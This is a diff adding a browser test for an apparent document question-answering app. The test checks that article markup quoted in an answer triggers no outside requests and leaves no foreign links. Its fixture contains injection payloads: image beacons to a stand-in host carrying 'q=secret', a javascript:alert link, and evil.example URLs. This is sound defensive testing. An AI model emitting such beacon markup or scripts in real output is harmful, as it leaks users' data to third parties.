@@ -87,3 +87,36 @@ def test_script_inside_an_article_does_not_run(page, app_url, service, tmp_path)
         "<script>" in page.locator("#sources").inner_text()
         or "three hours" in page.locator("#chat").inner_text()
     )
+
+
+def test_an_answer_quoting_markup_loads_and_links_nothing_outside(page, app_url, service, tmp_path):
+    """An article author's Markdown image, raw <img>, javascript: link or bare URL quoted in
+    an answer must not make the reader's browser fetch anything or link anywhere else."""
+    beacon = tmp_path / "beacon.txt"
+    beacon.write_text(
+        "Quokka island report\n\n"
+        "The quokka census on Rottnest island counted twelve thousand animals "
+        "![chart](http://beacon.example/x.png?q=secret) <img src='http://beacon.example/y.png'> "
+        "[more](javascript:alert(1)) at https://evil.example/story and www.evil.example today.\n"
+    )
+    service.add_files([str(beacon)])
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    page.goto(app_url)
+    page.locator("#settings").get_by_text("Settings").click()  # extractive: whole sentences
+    page.locator("#answerer input").click()
+    page.get_by_role("option", name="extractive").click()
+    page.locator("#question textarea").fill(
+        "How many animals did the quokka census on Rottnest island count?"
+    )
+    page.locator("#ask").click()
+    page.locator("#timings").get_by_text("total").wait_for(timeout=120_000)
+    page.wait_for_timeout(500)
+    answer = page.locator("#chat .message-row").last
+    assert "twelve thousand animals" in answer.inner_text() and "chart" in answer.inner_text()
+    origin = app_url.rstrip("/")
+    assert [u for u in requested if not u.startswith((origin, "data:", "blob:"))] == []
+    images = answer.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))")
+    assert not any("beacon" in (src or "") for src in images)
+    links = answer.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
+    assert links and all(href.startswith("#cite-") for href in links), links
